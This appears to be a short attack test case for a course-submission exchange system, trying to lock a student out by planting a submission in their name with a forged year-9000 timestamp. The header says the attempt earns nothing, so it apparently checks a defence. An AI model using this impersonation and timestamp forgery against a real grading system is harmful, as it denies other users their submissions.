# Tries: lock another student out, by a submission in their name from the year 9000
# Earns: 0

# %% exchange
folder = inbound / f"{victim}+{lesson}+9000-01-01 00:00:00.000000 UTC+AAAA"
shutil.copytree(mine, folder)
(folder / "timestamp.txt").write_text("9000-01-01 00:00:00.000000 UTC")
(folder / "toy.ipynb").write_text("{}")
